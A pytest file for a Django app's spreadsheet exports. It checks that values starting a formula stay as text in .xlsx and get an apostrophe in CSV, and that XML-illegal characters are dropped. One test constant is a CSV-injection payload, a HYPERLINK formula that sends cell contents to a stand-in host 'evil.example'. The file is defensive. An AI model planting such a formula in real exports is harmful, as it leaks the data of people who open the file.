"""The one spreadsheet writer: formulas from data stay text, characters XML cannot hold are dropped,
and the status board (.xlsx and .csv) and the list exports go through it (issue 15, findings 2-3)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from ocop.lib import spreadsheet
from ocop.programme.models import ProvincialPlan

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


def _workbook(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


def _cells(ws):
    return {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}


def test_table_keeps_formula_text_as_text_and_drops_xml_illegal_characters():
    buffer = io.BytesIO()
    spreadsheet.write_table(
        buffer,
        ["Tên", "Số"],
        [["=1+2", 5], ["+SUM(A1)", -3], ["@cmd", None], ["a\x07b\ufffec\uffff\x00", 1.5]],
        title="Kiểm thử",
    )
    ws = _workbook(buffer.getvalue()).active
    cells = _cells(ws)
    for text in ("=1+2", "+SUM(A1)", "@cmd"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix  # shown as text, stays text when edited
    assert "abc" in cells and cells[5].data_type == "n" and cells[-3].data_type == "n"
    assert all(c.data_type != "f" for c in cells.values())


def test_csv_values_that_start_a_formula_get_an_apostrophe():
    assert [spreadsheet.csv_value(v) for v in ("=1+2", "+1", "-x", "@a", "\tb", "Chè", 7, None, "a\ufffeb")] == [
        "'=1+2",
        "'+1",
        "'-x",
        "'@a",
        "'\tb",
        "Chè",
        7,
        "",
        "ab",
    ]


@pytest.mark.django_db
def test_hostile_plan_fields_reach_board_exports_as_text(client, demo_users):
    from ocop.geo.models import AdminUnit, Era, Level

    bac_kan = AdminUnit.objects.get(era=Era.LEGACY, level=Level.PROVINCE, code="06")
    # stored before text was cleaned at the boundary: a formula, a control character, non-characters
    ProvincialPlan.objects.create(
        unit=bac_kan,
        kind="de_an",
        title="Đề án OCOP",
        phase=HYPERLINK,
        status="approved",
        drafting_since="2018-01-15",
        decision_number="=1+2\x1f\ufffe",
        decision_date="2018-05-24",
        issuer="UBND tỉnh\uffff",
    )
    client.force_login(demo_users["tw.canbo"])
    response = client.get(reverse("programme:board_export", args=["xlsx"]), {"date": "12/12/2018"})
    assert response.status_code == 200
    cells = _cells(_workbook(b"".join(response.streaming_content)).active)
    assert cells[HYPERLINK].data_type == "s" and cells["=1+2"].data_type == "s"
    assert all(c.data_type != "f" for c in cells.values())

    response = client.get(reverse("programme:board_export", args=["csv"]), {"date": "12/12/2018"})
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    bac = next(r for r in rows if r[0] == "06")
    assert "'" + HYPERLINK in bac and "'=1+2" in bac and "\ufffe" not in text and "\x1f" not in text

    semicolon = client.get(reverse("programme:board_export", args=["csv"]), {"date": "12/12/2018", "sep": "semicolon"})
    rows = list(csv.reader(io.StringIO(semicolon.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:2] == list(spreadsheet.csv_value(h) for h in rows[0][:2]) and len(rows) == 64


@pytest.mark.django_db
def test_non_characters_in_stored_names_do_not_break_list_exports(client, demo_users):
    from ocop.geo.models import AdminUnit, Level
    from ocop.products.tests.factories import make_entity, make_product

    officer = demo_users["tinh.thainguyen"]
    unit = AdminUnit.objects.filter(level=Level.COMMUNE, province=officer.scope_unit).order_by("code").first()
    entity = make_entity(unit, name="HTX\ufffe Mật\x01 ong\uffff")
    make_product(entity, name='=HYPERLINK("x")\ufffe Mật ong')
    client.force_login(officer)
    for name in ("products:entity_list", "products:product_list"):
        response = client.get(reverse(name), {"format": "xlsx"})
        assert response.status_code == 200, name
        _meta, _header, data = spreadsheet.read_table(b"".join(response.streaming_content))
        flat = [v for row in data for v in row if isinstance(v, str)]
        assert "HTX Mật ong" in flat, name
